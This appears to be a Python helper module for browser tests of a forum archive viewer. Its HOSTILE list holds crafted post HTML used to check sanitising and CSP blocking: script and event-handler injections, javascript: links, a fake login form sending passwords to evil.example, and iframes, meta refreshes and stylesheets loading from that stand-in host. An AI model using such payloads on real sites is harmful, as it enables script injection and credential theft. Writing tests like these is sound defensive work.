"""What the tests in a browser share: an open page that remembers what went wrong, and posts that mean harm."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from dataset_made import Make

PHONE = {"width": 390, "height": 844}
DESK = {"width": 1280, "height": 900}

EDITED = 4163
"""A post of the demo forum that is edited between two readings."""

EVIL = "https://evil.example"
HOSTILE = [
    "<script>document.title = 'taken'</script>",
    "<style>* { display: none !important }</style>words",
    f'<p onclick="document.title = 1" onmouseover="document.title = 1">words</p><img src="{EVIL}/x.png" onerror="x()">',
    '<a id="link" href="javascript:document.title = 1">words</a> <a href="data:text/html,<script>1</script>">data</a>',
    f'<form action="{EVIL}"><input name="password"><button>Log in</button></form>words',
    f'<iframe src="{EVIL}"></iframe><object data="{EVIL}"></object><embed src="{EVIL}"><video src="{EVIL}">',
    f'<svg onload="document.title = 1"><image href="{EVIL}/a.png"/><use href="{EVIL}#a"/></svg>words',
    f'<img src="{EVIL}/giant.png" width="100000" height="100000" alt="giant">words',
    '<div style="position: fixed; inset: 0; z-index: 999; background: red" class="skip top page">words</div>',
    f'<base href="{EVIL}/"><meta http-equiv="refresh" content="0; url={EVIL}"><link rel="stylesheet" href="{EVIL}">',
    "<div>" * 3_000 + "words",
    "<b>" * 400 + "<table><td>" * 60 + "words",
    "</div></article></main></body></html><!-- <p>words",
    '<a id="main" name="getElementById">words</a><p id="post-10">words</p>',
    "\u202eright to left \u2066 and never ended",
    "<p>" + "w" * 100_000 + "</p>",
    "<table><tr>" + "<td>wide</td>" * 200 + "</tr></table>",
    "z\u0300" * 500 + " words",
]


def hostile_rows() -> dict[str, list[Any]]:
    """A thread of posts that mean harm, by people whose names do."""
    make = Make()
    name = "<script>document.title = 1</script>\u202e"
    posts = [
        make.post(10 + rank, position=1 + rank, page=1, html=source, full_text="words", author_name=name,
                  author_group=name, url="javascript:document.title = 1", is_first_post=rank == 0)
        for rank, source in enumerate(HOSTILE)
    ]  # fmt: skip
    return {
        "threads": [make.thread(1, len(posts), title=name, url="javascript:1", forum_path=[name], complete=True)],
        "posts": posts,
        "versions": [
            make.version(11, 1, is_current=False, text="<b onclick=1>old</b> words"),
            make.version(11, 2, text="<i>new</i> words"),
        ],
        "quotes": [make.quote(11, cited_author_name=name, cited_post_id=5, target_state="unseen")],
        "reactions": [make.row("reactions", post_id=10, reaction=name, count=1)],
    }


class Shown:
    """A page in a browser: what it asked for, and what it complained of."""

    def __init__(
        self, browser: Any, *, size: dict[str, int] | None = None, dark: bool = False, scripts: bool = True
    ) -> None:
        scheme = "dark" if dark else "light"
        self._context = browser.new_context(
            viewport=size or DESK, color_scheme=scheme, java_script_enabled=scripts, service_workers="block"
        )
        self.page = self._context.new_page()
        self.page.set_default_timeout(20_000)  # a busy machine is no failure
        self.requests: list[str] = []
        self.blocked: list[str] = []
        self.complaints: list[str] = []
        self.page.on("request", lambda request: self.requests.append(request.url))
        self.page.on("requestfailed", self._failed)
        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.page.on("dialog", lambda dialog: self.complaints.append(dialog.message))
        self.page.on("console", self._heard)

    def _heard(self, message: Any) -> None:
        if message.type in {"error", "warning"}:
            self.complaints.append(message.text)

    def _failed(self, request: Any) -> None:
        if request.failure == "csp":  # it never left the page
            self.blocked.append(request.url)

    def open(self, path: Path, mark: str = "") -> None:
        self.page.goto(f"{path.as_uri()}{mark}")

    def close(self) -> None:
        self._context.close()

    def evaluate(self, words: str, value: Any = None) -> Any:
        return self.page.evaluate(words, value)

    @property
    def hash(self) -> str:
        return self.evaluate("location.hash")

    @property
    def focused(self) -> str:
        """The id of the element that has the focus, or else its class."""
        return self.evaluate("document.activeElement.id || document.activeElement.className")

    def in_sight(self, selector: str) -> bool:
        """Whether the top of an element is within the window, below the bar."""
        return self.evaluate(
            "selector => { const top = document.querySelector(selector).getBoundingClientRect().top;"
            " return top >= 0 && top < innerHeight; }",
            selector,
        )
